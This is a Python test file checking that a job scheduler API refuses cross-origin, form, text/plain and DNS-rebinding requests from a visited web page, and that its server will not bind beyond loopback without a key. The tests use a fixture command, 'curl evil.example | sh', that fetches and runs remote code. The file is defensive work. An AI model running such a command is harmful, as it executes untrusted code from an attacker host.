"""The browser boundary tried as a web page the operator visits would (docs/SECURITY.md;
scheduler/api/boundary.py): with no key, a page's simple POST (text/plain, a form, a Blob with
no type), a cross-origin JSON POST, a name rebound to the API's address (DNS rebinding). Each
through ASGI and the hot lane, refused, and Redis left as it was. Then `scheduler serve`'s
refusal to listen beyond loopback without a key."""

from __future__ import annotations

import os
import subprocess
import sys
import time

import httpx
import pytest
import redis
from starlette.testclient import TestClient

from scheduler.api.boundary import with_listen_address
from scheduler.config import ConfigError, Settings
from tests.conftest import BOTH_FRONTS, ClientFactory, assert_text_error, register
from tests.deployment_state import deployment_state
from tests.redis_server import free_port

COMMAND = b'{"command":"curl evil.example | sh"}'
EVIL = "https://evil.example"


def own_origin(api: TestClient) -> str:
    """The API's own origin as a browser on its pages says it (scheme, Host's name and port)."""
    return f"{api.base_url.scheme}://{api.base_url.netloc.decode()}"


@pytest.fixture
def api(make_client: ClientFactory) -> TestClient:
    """No key (as `./dev up` without one), node n1 registered, job-1 pending on it."""
    client = make_client()
    register(client, "n1")
    assert client.post("/jobs", json={"command": "true"}).status_code == 201
    return client


# (name, method, path, body, headers, status, message): what a page can make a browser send.
ATTACKS = [
    (
        "a text/plain POST, no preflight (a browser without Origin)",
        "POST",
        "/jobs",
        {"Content-Type": "text/plain"},
        415,
        "Content-Type must be application/json",
    ),
    (
        "a text/plain POST with its Origin",
        "POST",
        "/jobs",
        {"Content-Type": "text/plain;charset=UTF-8", "Origin": EVIL},
        403,
        "cross-origin request refused",
    ),
    (
        "a form POST",
        "POST",
        "/jobs",
        {"Content-Type": "application/x-www-form-urlencoded", "Origin": EVIL},
        403,
        "cross-origin request refused",
    ),
    (
        "a form POST from a browser sending no Origin",
        "POST",
        "/jobs",
        {"Content-Type": "application/x-www-form-urlencoded"},
        415,
        "Content-Type must be application/json",
    ),
    (
        "a multipart form POST",
        "POST",
        "/jobs",
        {"Content-Type": "multipart/form-data; boundary=x"},
        415,
        "Content-Type must be application/json",
    ),
    (
        "a Blob POST (no Content-Type) from a foreign Origin",
        "POST",
        "/jobs",
        {"Origin": EVIL},
        403,
        "cross-origin request refused",
    ),
    (
        "a Blob POST, only Sec-Fetch-Site telling",
        "POST",
        "/jobs",
        {"Sec-Fetch-Site": "cross-site"},
        403,
        "cross-origin request refused",
    ),
    (
        "JSON from a foreign Origin",
        "POST",
        "/jobs",
        {"Content-Type": "application/json", "Origin": EVIL},
        403,
        "cross-origin request refused",
    ),
    (
        "JSON from a sandboxed frame (Origin: null)",
        "POST",
        "/jobs",
        {"Content-Type": "application/json", "Origin": "null"},
        403,
        "cross-origin request refused",
    ),
    (
        "JSON from another port of the API's host",
        "POST",
        "/jobs",
        {"Content-Type": "application/json", "Origin": "http://127.0.0.1:8080"},
        403,
        "cross-origin request refused",
    ),
    (
        "a forged report from a page",
        "PATCH",
        "/jobs/job-1",
        {"Content-Type": "text/plain", "Origin": EVIL},
        403,
        "cross-origin request refused",
    ),
    (
        "DNS rebinding: a submit",
        "POST",
        "/jobs",
        {"Host": "attacker.example:9001", "Content-Type": "application/json"},
        400,
        "invalid Host header: not one of ALLOWED_HOSTS",
    ),
    (
        "DNS rebinding: reading a job",
        "GET",
        "/jobs/job-1",
        {"Host": "attacker.example"},
        400,
        "invalid Host header: not one of ALLOWED_HOSTS",
    ),
    (
        "DNS rebinding: the agent's poll",
        "GET",
        "/jobs?node_id=n1&status=pending",
        {"Host": "attacker.example"},
        400,
        "invalid Host header: not one of ALLOWED_HOSTS",
    ),
    (
        "DNS rebinding: a listing",
        "GET",
        "/jobs",
        {"Host": "rebind.attacker.example"},
        400,
        "invalid Host header: not one of ALLOWED_HOSTS",
    ),
]


@BOTH_FRONTS
@pytest.mark.parametrize(
    ("method", "path", "headers", "status", "message"),
    [attack[1:] for attack in ATTACKS],
    ids=[attack[0] for attack in ATTACKS],
)
def test_a_page_the_operator_visits_is_refused_and_changes_nothing(
    api: TestClient,
    rclient: redis.Redis,
    prefix: str,
    method: str,
    path: str,
    headers: dict[str, str],
    status: int,
    message: str,
) -> None:
    before = deployment_state(rclient, prefix)
    body = COMMAND if method != "GET" else None
    response = api.request(method, path, content=body, headers=headers)
    assert_text_error(response, status, message)
    assert deployment_state(rclient, prefix) == before


@BOTH_FRONTS
def test_with_a_key_a_page_is_refused_at_the_boundary_first(
    make_client: ClientFactory, rclient: redis.Redis, prefix: str
) -> None:
    """The rules hold with a key too (they cost nothing): even the operator's own key does
    not make a cross-origin or text/plain submit go through."""
    api = make_client(api_key="k")
    key = {"Authorization": "Bearer k"}
    before = deployment_state(rclient, prefix)
    foreign = {**key, "Content-Type": "application/json", "Origin": EVIL}
    assert api.post("/jobs", content=COMMAND, headers=foreign).status_code == 403
    plain = {**key, "Content-Type": "text/plain"}
    assert api.post("/jobs", content=COMMAND, headers=plain).status_code == 415
    rebound = {**key, "Host": "attacker.example"}
    assert api.get("/jobs/job-1", headers=rebound).status_code == 400
    assert deployment_state(rclient, prefix) == before


@BOTH_FRONTS
def test_the_clients_that_are_no_browser_keep_working(api: TestClient) -> None:
    """No Content-Type, Origin nor Sec-Fetch-Site (the Go CLI and the lambda, whose
    Content-Type is unknown), JSON (the Rust agent, our CLI), the API's own origin (its
    pages), and a loopback name as Host."""
    bare = api.post("/jobs", content=COMMAND)
    assert bare.status_code == 201, bare.text
    assert "content-type" not in bare.request.headers
    typed = {"Content-Type": "application/json; charset=utf-8"}
    assert api.post("/jobs", content=COMMAND, headers=typed).status_code == 201
    own = {"Content-Type": "application/json", "Origin": own_origin(api)}
    same = {"Content-Type": "application/json", "Sec-Fetch-Site": "same-origin"}
    assert api.post("/jobs", content=COMMAND, headers=own).status_code == 201
    assert api.post("/jobs", content=COMMAND, headers=same).status_code == 201
    report = api.patch("/jobs/job-1", json={"status": "running"})
    assert report.status_code == 200, report.text
    for host in ("localhost", "127.0.0.1:9001", "[::1]:9001", "LOCALHOST"):
        assert api.get("/jobs/job-1", headers={"Host": host}).status_code == 200, host
    assert api.get("/jobs", headers={"Origin": EVIL}).status_code == 200  # a read: CORS's
    listed = api.get("/jobs").json()
    assert [job["job_id"] for job in listed] == ["job-1", "job-2", "job-3", "job-4", "job-5"]


def test_allowed_hosts_names_more_hosts(make_client: ClientFactory) -> None:
    api = make_client(allowed_hosts="testserver,scheduler.internal")
    named = api.get("/health", headers={"Host": "scheduler.internal:9001"})
    assert named.status_code == 200
    other = api.get("/health", headers={"Host": "scheduler.internal.attacker.example"})
    assert other.status_code == 400
    anyone = make_client(allowed_hosts="*")
    assert anyone.get("/health", headers={"Host": "anything.example"}).status_code == 200


# `scheduler serve` beyond loopback.


def serve(*args: str, **env: str) -> subprocess.Popen[str]:
    environ = {k: v for k, v in os.environ.items() if k != "TINYAWS_API_KEY"}
    environ.update(REDIS_URL=f"redis://127.0.0.1:{free_port()}/0", **env)  # none needed
    argv = [sys.executable, "-m", "scheduler", "serve", "--workers", "1", *args]
    return subprocess.Popen(argv, env=environ, stderr=subprocess.PIPE, text=True)


def test_serve_refuses_every_interface_without_a_key() -> None:
    proc = serve("--host", "0.0.0.0", "--port", str(free_port()))
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 2
    assert stderr.startswith(
        "scheduler serve: refusing to listen on 0.0.0.0 without TINYAWS_API_KEY"
    )
    assert "--insecure-no-key" in stderr and "Traceback" not in stderr


@pytest.mark.parametrize(
    ("args", "env"),
    [(["--insecure-no-key"], {}), ([], {"SERVE_INSECURE_NO_KEY": "1"})],
    ids=["flag", "setting"],
)
def test_serve_beyond_loopback_without_a_key_when_told_it_is_insecure(
    args: list[str], env: dict[str, str]
) -> None:
    port = free_port()
    proc = serve("--host", "0.0.0.0", "--port", str(port), *args, **env)
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, proc.communicate()[1]
            try:
                if httpx.get(f"http://127.0.0.1:{port}/health", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert time.monotonic() < deadline, "serve did not answer within 60 s"
            time.sleep(0.1)
    finally:
        proc.terminate()
        _, stderr = proc.communicate(timeout=30)
    assert "without a key (--insecure-no-key)" in stderr


@pytest.mark.parametrize(
    ("setting", "listen", "applied"),
    [
        ("", "127.0.0.1", "127.0.0.1"),
        ("", "192.168.1.5", "192.168.1.5"),
        ("api.example", "[::1]", "::1,api.example"),
        ("", "0.0.0.0", "*"),  # every interface: reached by names it cannot know
        ("lb,api.example", "0.0.0.0", "lb,api.example"),
    ],
)
def test_serve_adds_its_listen_address(setting: str, listen: str, applied: str) -> None:
    assert with_listen_address(setting, listen) == applied


@pytest.mark.parametrize("bad", ["http://api.example", "api.example:9001", "a/b", "*.example"])
def test_allowed_hosts_that_are_no_host_stop_the_process(bad: str) -> None:
    with pytest.raises(ConfigError, match=r"^ALLOWED_HOSTS: "):
        Settings.from_env({"ALLOWED_HOSTS": f"localhost,{bad}"})
